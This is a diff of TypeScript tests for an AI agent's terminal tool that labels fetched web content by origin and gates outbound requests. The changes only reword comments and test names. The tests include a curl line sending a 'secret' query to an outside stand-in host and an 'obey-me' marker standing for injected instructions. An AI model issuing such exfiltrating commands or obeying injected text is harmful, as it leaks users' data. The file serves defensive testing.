@@ -12,7 +12,7 @@ import { terminal } from '../../../src/tools/terminal/node.js';
 
 type Command = readonly [name: string, args: Record<string, JsonValue>];
 
-/** The shell in Node refuses private hosts: these stand for a server of this machine. */
+/** The shell in Node rejects private hosts: these names resolve to a server of this machine. */
 const SITE = 'http://93.184.216.34';
 const OTHER = 'http://93.184.216.35';
 const HOSTS = [SITE, OTHER];
@@ -21,7 +21,7 @@ const run = (cmd: string): Command => ['Terminal.run_command', { cmd }];
 const end = commands(['RoleZero.reply_to_human', { content: 'done' }], ['end', {}]);
 
 let server: Server;
-/** What was asked for, by host and path. */
+/** Requests by host and path. */
 let asked: string[];
 
 beforeAll(async () => {
@@ -47,7 +47,7 @@ beforeEach(() => {
 });
 afterEach(() => void vi.unstubAllGlobals());
 
-/** What the role has read when it has run these, and the labels of its files. */
+/** What the role reads after these commands, the labels of its files, and what the user was asked. */
 async function labels(
   steps: readonly Command[],
   { answer = 'yes', ...options }: { capabilities?: Capabilities; answer?: string } = {},
@@ -98,7 +98,7 @@ it('what curl fetches is labelled with its origin, in what the role reads and in
   expect(found.files).toEqual({ '/page': [SITE], '/note': [SITE] });
 });
 
-it('a command that fetched nothing carries no label, with capabilities neither', async () => {
+it('labels nothing for a command that fetched nothing, also with capabilities', async () => {
   for (const options of [{}, { capabilities: { outside: ['Terminal.*'] } }]) {
     const found = await labels(
       [
@@ -118,21 +118,21 @@ it('a command that fetched nothing carries no label, with capabilities neither',
   }
 });
 
-it('a curl that failed has fetched all the same', async () => {
+it('labels the output of a failed curl as well', async () => {
   const found = await labels([run(`curl -sf ${SITE}/gone`)]);
   expect(found.results[0]?.output).toContain('[exit code]: 22');
   expect(from(found)[0]).toEqual([SITE]);
 });
 
-it('where a redirect leads to counts as well, also when it may not be followed', async () => {
+it('labels the target of a redirect, too, also when it must not be followed', async () => {
   expect(from(await labels([run(`curl -sL ${SITE}/moved`)]))[0]).toEqual([OTHER, SITE]);
   const refused = await labels([run(`curl -L ${SITE}/away`)]);
   expect(asked).toEqual([`${SITE}/moved`, `${OTHER}/page`, `${SITE}/away`]);
-  expect(refused.results[0]?.output).toContain('obey-me'); // their words are in what the failure says
+  expect(refused.results[0]?.output).toContain('obey-me'); // Its text is in the error.
   expect(from(refused)[0]).toEqual([SITE]);
 });
 
-it('after it the user is asked before the shell could send something out', async () => {
+it('asks the user before the shell could send data out after that', async () => {
   const { questions } = await labels([
     run('echo before'),
     run(`curl -s ${SITE}/page`),
@@ -141,7 +141,7 @@ it('after it the user is asked before the shell could send something out', async
   expect(questions).toEqual([`curl -s "${SITE}/?q=secret"`]);
 });
 
-it('a background job has no network, and what it makes of labelled files is labelled', async () => {
+it('a background job has no network, and its output from labelled files is labelled', async () => {
   const found = await labels([
     ['Terminal.run_command', { cmd: `curl -s ${SITE}/page; echo $? > /code`, daemon: true }],
     ['Terminal.get_stdout_output', { wait_seconds: 20 }],
